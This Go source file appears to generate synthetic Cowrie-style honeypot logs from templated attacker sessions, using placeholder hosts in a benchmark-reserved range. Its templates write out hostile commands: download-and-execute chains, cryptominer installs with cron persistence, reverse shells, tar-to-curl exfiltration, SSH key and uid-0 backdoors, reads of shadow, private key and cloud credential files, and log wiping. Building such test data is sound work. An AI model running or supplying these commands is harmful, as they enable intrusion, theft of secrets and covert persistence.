package workload

import (
	"fmt"
	"strconv"
	"strings"
	"time"
)

// script is what one sort of visitor types. In its commands, {name} stands for
// something that fill puts there:
//
//	{host}      an address: the campaign's, or one of the session's own
//	{pass}      a password of the session's own
//	{probe}     a marker of five letters
//	{key}       the campaign's public key
//	{wallet}    the campaign's wallet
//	{hex}       32 escaped bytes of the campaign's program
//	{arch}      a processor
//	{u:word}    word, which in a unique history is a word of the command's own
type script struct {
	weight   int
	telnet   bool
	own      int // how many sessions of a hundred have a host and marker of their own
	commands []string
	some     bool // only some of the commands, in an order of the session's own
}

var scripts = []script{
	{weight: 100}, // scans and failed guesses, which leave no command
	{weight: 30, own: 5, commands: []string{
		`uname -a`,
		`cd ~ && chattr -R -ia .ssh 2>/dev/null; rm -rf .ssh`,
		`mkdir -p ~/.ssh && echo "ssh-rsa {key} ops@node" > ~/.ssh/authorized_keys && chmod -R go= ~/.ssh`,
		`echo "root:{pass}" | chpasswd`,
		`echo -e "{pass}\n{pass}" | passwd root`,
		`rm -f /tmp/guard.sh /tmp/clean.sh; pkill -9 guard.sh; pkill -9 clean.sh; echo > /etc/hosts.deny`,
		`grep name /proc/cpuinfo | wc -l`,
		`grep 'model name' /proc/cpuinfo | head -1 | awk '{print $4,$5,$6,$7,$8}'`,
		`free -m | grep Mem | awk '{print $2,$3,$4}'`,
		`ls -lh $(which ls)`,
		`which ls`,
		`crontab -l`,
		`w`,
		`uname -m`,
		`cat /proc/uptime`,
		`top -bn1 | head -5`,
		`whoami`,
		`lscpu | grep Model`,
		`df -h | head -2 | awk 'FNR == 2 {print $2}'`,
		`last | head`,
		`nproc`,
	}},
	{weight: 12, telnet: true, own: 35, commands: []string{
		`enable`,
		`system`,
		`shell`,
		`sh`,
		`/bin/busybox {probe}`,
		`cat /proc/mounts; /bin/busybox {probe}`,
		`cd /dev/shm; cp /bin/echo .{u:t}; >.{u:t}; /bin/busybox {probe}`,
		`wget; tftp; /bin/busybox {probe}`,
		`head -c 52 /bin/echo || dd if=/bin/echo bs=52 count=1`,
		`/bin/busybox wget http://{host}/{u:d}/{arch} -O - > .{u:t}; /bin/busybox chmod 777 .{u:t}; ./.{u:t} telnet.{arch}`,
		`rm -f .{u:t}; exit`,
	}},
	{weight: 9, own: 60, commands: []string{
		`cd /tmp || cd /var/run || cd /mnt || cd /root; wget http://{host}/{u:run.sh}; curl -O http://{host}/{u:run.sh}; chmod 777 {u:run.sh}; sh {u:run.sh}; rm -f {u:run.sh}`,
		`cd /tmp; tftp {host} -c get {u:t1.sh}; sh {u:t1.sh}; ftpget -v -u anonymous -p anonymous -P 21 {host} {u:f1.sh} {u:f1.sh}; sh {u:f1.sh}`,
	}},
	{weight: 25, own: 5, commands: []string{
		`uname -s -n -r -m`,
	}},
	{weight: 5, own: 60, commands: []string{
		`nproc; cat /proc/meminfo | grep MemTotal`,
		`ps aux | grep -v grep | grep -E 'xmrig|kdevtmpfsi|kinsing' | awk '{print $2}' | xargs -r kill -9`,
		`systemctl stop {u:minerd}; rm -rf /var/tmp/.{u:cache}`,
		`mkdir -p /var/tmp/.{u:cache} && cd /var/tmp/.{u:cache} && curl -fsSL http://{host}/x/{arch}.tgz | tar xz`,
		`sysctl -w vm.nr_hugepages=1280`,
		`nohup ./kworkerd -o stratum+tcp://{host}:3333 -u {wallet} -p x --cpu-max-threads-hint=75 >/dev/null 2>/tmp/.{u:err} &`,
		`(crontab -l 2>/dev/null; echo "*/10 * * * * /var/tmp/.{u:cache}/kworkerd") | crontab -`,
		`history -c; rm -f ~/.bash_history`,
	}},
	{weight: 2, telnet: true, own: 0, commands: append(append([]string{
		`enable`, `sh`, `cd /var/run; >.{u:e} && echo ok`,
	}, repeat(`echo -ne "{hex}" >> .{u:e}`, 36)...), `chmod 755 .{u:e}; ./.{u:e} scan.{arch}; >.{u:e}`)},
	{weight: 5, own: 0, commands: []string{
		`/system resource print`,
		`ifconfig`,
		`cat /proc/cpuinfo`,
		`ps | grep -i '[m]iner'`,
		`ps -ef | grep -i '[m]iner'`,
		`ls -la /dev/ttyUSB* /dev/ttyACM* /var/spool/sms /etc/smsd.conf`,
		`echo hello | cat -A`,
	}},
	{weight: 3, some: true, own: 100, commands: []string{
		`ls`, `ls -la`, `pwd`, `id`, `cd /home`, `cat /etc/passwd`, `cat /etc/shadow`, `cat /etc/os-release`, `ip a`, `netstat -tulpn`,
		`ps aux`, `history`, `sudo -l`, `find / -perm -4000 -type f 2>/dev/null`, `cat ~/.ssh/id_rsa`, `cat /root/.aws/credentials`,
		`env`, `mount`, `ls /var/www/html`, `cat /var/www/html/{u:config.php}`, `mysql -u root -p{pass}`, `ping -c 1 {host}`, `nmap -sT {host}`,
		`curl http://169.254.169.254/latest/meta-data/iam/security-credentials/`, `docker ps`, `vi {u:notes.txt}`, `exit`, `clera`, `sl`,
	}},
	{weight: 2, own: 50, commands: []string{
		`useradd -o -u 0 -g 0 -M -s /bin/bash {u:support}`,
		`echo '{u:support}:{pass}' | chpasswd`,
		`echo '{u:support} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers`,
		`printf '[Service]\nExecStart=/usr/local/bin/{u:netd}\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' > /etc/systemd/system/{u:netd}.service; systemctl enable --now {u:netd}`,
		`iptables -F; ufw disable; setenforce 0`,
		`echo '@reboot root /usr/local/bin/{u:netd}' >> /etc/crontab`,
	}},
	{weight: 2, own: 30, commands: []string{
		`rm -rf /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/auth.log`,
		`unset HISTFILE; export HISTSIZE=0`,
		`echo > /var/log/secure; touch -r /bin/ls /var/log/secure`,
		`history -c`,
	}},
	{weight: 2, own: 80, commands: []string{
		`echo {u:b64=} | base64 -d | sh`,
		`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("{host}",4444));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("/bin/sh")'`,
		`bash -i >& /dev/tcp/{host}/4444 0>&1`,
		`ssh -N -R 2222:127.0.0.1:22 -o StrictHostKeyChecking=no proxy@{host}`,
		`tar czf - /etc /home 2>/dev/null | curl -s -T - http://{host}/up/{u:a.tgz}`,
	}},
}

func repeat(text string, n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = text
	}
	return out
}

var (
	sensors = []string{"sensor-ams-1", "sensor-fra-1", "sensor-sgp-1", "sensor-nyc-2"}
	archs   = []string{"mips", "mipsel", "arm5", "arm7", "x86_64", "i686"}
	users   = []string{"root", "root", "root", "root", "admin", "ubuntu", "pi", "oracle", "test", "user"}
	// exchanges are made-up HASSH fingerprints.
	exchanges = []string{
		"a969beecfec94db78a0a6d0da1e5e81f", "51b16195f3d725f0cca39a443e411da5", "1c40c29bd90a87380715fc7cbfce18f6", "19e0a9b2670667f6066fa5f41289c3b2",
	}
	passwords = []string{"123456", "admin", "password", "root", "1234", "raspberry", "qwerty123", "P@ssw0rd", "xc3511", "vizxv"}
)

// campaigns is how many actors share hosts, keys and programs.
const campaigns = 48

// fill makes the commands of one session, at most limit of them.
func (g *generator) fill(s *script, limit int) []string {
	texts := s.commands
	if s.some {
		texts = make([]string, 2+g.n(14))
		for i := range texts {
			texts[i] = s.commands[g.n(len(s.commands))]
		}
	}
	texts = texts[:min(len(texts), limit)]
	campaign := uint64(g.n(campaigns))
	word := &filler{g: g, campaign: campaign, arch: archs[campaign%uint64(len(archs))], host: address(campaign * 2654435761)}
	word.probe = letters(campaign*40503+7, 5)
	if g.n(100) < s.own {
		word.host = address(g.rng.Uint64())
		word.probe = letters(g.rng.Uint64(), 5)
	}
	word.pass = g.token(10 + g.n(4))
	out := make([]string, len(texts))
	for i, text := range texts {
		out[i] = word.fill(text)
	}
	return out
}

// filler holds what one session puts into its commands.
type filler struct {
	g                       *generator
	campaign                uint64
	host, pass, probe, arch string
	chunk                   uint64 // of the campaign's program
}

func (f *filler) fill(template string) string {
	own := ""
	if f.g.Unique {
		f.g.tokens++
		// An odd factor makes a bijection of 64 bits, so no word comes twice.
		own = "z" + strconv.FormatUint(f.g.tokens*0x9e3779b97f4a7c15, 36)
	}
	used := false
	var b strings.Builder
	for {
		before, rest, found := strings.Cut(template, "{")
		b.WriteString(before)
		if !found {
			break
		}
		name, after, closed := strings.Cut(rest, "}")
		value, known := f.value(name, own)
		if !closed || !known { // a brace of the shell's or awk's
			b.WriteByte('{')
			template = rest
			continue
		}
		used = used || strings.HasPrefix(name, "u:")
		b.WriteString(value)
		template = after
	}
	if own != "" && !used {
		b.WriteString([...]string{" 2>/tmp/.", " | grep -v ", " > /var/tmp/", " && echo "}[f.g.n(4)])
		b.WriteString(own)
	}
	return b.String()
}

func (f *filler) value(name, own string) (string, bool) {
	if word, ok := strings.CutPrefix(name, "u:"); ok {
		if own != "" {
			return own, true
		}
		return word, true
	}
	switch name {
	case "host":
		return f.host, true
	case "pass":
		return f.pass, true
	case "probe":
		return f.probe, true
	case "arch":
		return f.arch, true
	case "key":
		return "AAAAB3NzaC1yc2EAAAADAQABAAAB" + letters(f.campaign*7919+1, 13) + letters(f.campaign*104729+3, 13), true
	case "wallet":
		return "4" + letters(f.campaign*15485863+5, 13) + letters(f.campaign*32452843+11, 13), true
	case "hex":
		f.chunk++
		var b strings.Builder
		x := f.campaign%4<<16 | f.chunk
		for range 4 {
			x = x*6364136223846793005 + 1442695040888963407
			for shift := 0; shift < 64; shift += 8 {
				fmt.Fprintf(&b, `\x%02x`, byte(x>>shift))
			}
		}
		return b.String(), true
	}
	return "", false
}

// token is n random letters and digits.
func (g *generator) token(n int) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[g.n(len(alphabet))]
	}
	return string(b)
}

func (g *generator) hex(n int) string {
	return fmt.Sprintf("%0*x", n, g.rng.Uint64()>>(64-4*n))
}

// attacker returns an address. Of 2^16 attackers the first few come most often:
// the first 2^n have n sixteenths of the sessions.
func (g *generator) attacker() string {
	return address(uint64(g.n(1<<g.n(16))) * 2654435761)
}

func (g *generator) credentials() (user, pass string) {
	return users[g.n(len(users))], passwords[g.n(len(passwords))]
}

// letters spells x with n capital letters.
func letters(x uint64, n int) string {
	b := make([]byte, n)
	for i := range b {
		x = x*6364136223846793005 + 1442695040888963407
		b[i] = 'A' + byte(x>>33%26)
	}
	return string(b)
}

// address is one of 198.18.0.0/15, which RFC 2544 sets aside for benchmarks.
func address(x uint64) string {
	return fmt.Sprintf("198.%d.%d.%d", 18+x>>16&1, x>>8&255, x&255)
}

// downloadURL returns the first URL that a command fetches, or "".
func downloadURL(text string) string {
	if !strings.Contains(text, "wget ") && !strings.Contains(text, "curl ") {
		return ""
	}
	i := strings.Index(text, "http://")
	if i < 0 {
		return ""
	}
	url := text[i:]
	if end := strings.IndexAny(url, " ;'\""); end >= 0 {
		url = url[:end]
	}
	return url
}

// logTime is how Cowrie writes a time.
const logTime = "2006-01-02T15:04:05.000000Z"

func appendTime(dst []byte, at time.Time) []byte { return at.AppendFormat(dst, logTime) }
